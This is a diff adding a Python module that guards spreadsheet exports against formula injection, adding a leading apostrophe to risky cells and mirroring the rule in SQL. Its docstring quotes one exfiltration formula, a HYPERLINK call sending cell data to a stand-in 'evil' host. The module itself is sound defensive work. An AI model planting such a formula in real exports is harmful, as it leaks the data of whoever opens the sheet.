@@ -1,0 +1,48 @@
+"""Text that a spreadsheet must not evaluate: the one rule every export writer applies.
+
+Excel, LibreOffice and Google Sheets read a cell that starts with `=`, `+`, `-` or `@`
+as a formula (`=HYPERLINK("http://evil/?"&A1)` sends the sheet away; a DDE payload runs
+a program), also after leading spaces or quotes, and a leading tab or line break hides
+what follows. Following OWASP's CSV-injection advice, such a cell gets a leading `'`:
+spreadsheets show it as text, and a user who edits the cell keeps it text.
+
+`spreadsheet_text` is the rule. The CSV writer has the database build its lines (see
+billing.export.csv_line), so `guard_prefix_sql` renders the same rule as SQL, from the
+same characters; tests hold the two equal on both databases.
+"""
+
+from __future__ import annotations
+
+FORMULA_STARTS = frozenset("=+-@\uff1d\uff0b\uff0d\uff20")
+"""Characters that begin a formula, with their full-width forms (East Asian input)."""
+HIDING_STARTS = frozenset("\t\r\n")
+"""A cell starting with one of these is neutralised whatever follows (OWASP: tab, CR)."""
+PADDING = " \t\r\n\"'"
+"""Skipped before looking for a formula character: spreadsheets skip them too."""
+NEUTRAL_PREFIX = "'"
+
+
+def spreadsheet_text(value: str) -> str:
+    """`value` as a cell no spreadsheet evaluates: with a leading `'` where it would."""
+    if value and (value[0] in HIDING_STARTS or value.lstrip(PADDING)[:1] in FORMULA_STARTS):
+        return NEUTRAL_PREFIX + value
+    return value
+
+
+def _literal(text: str) -> str:
+    """A SQL string literal (standard quoting, valid in SQLite and PostgreSQL)."""
+    return "'" + text.replace("'", "''") + "'"
+
+
+def _one_of(chars: frozenset[str]) -> str:
+    return "(" + ", ".join(_literal(c) for c in sorted(chars)) + ")"
+
+
+def guard_prefix_sql(value: str) -> str:
+    """SQL (SQLite and PostgreSQL alike) giving the prefix `spreadsheet_text` would add to
+    the text column `value`: `'` or the empty string."""
+    return (
+        f"CASE WHEN substr({value}, 1, 1) IN {_one_of(HIDING_STARTS)}"
+        f" OR substr(ltrim({value}, {_literal(PADDING)}), 1, 1) IN {_one_of(FORMULA_STARTS)}"
+        f" THEN {_literal(NEUTRAL_PREFIX)} ELSE '' END"
+    )
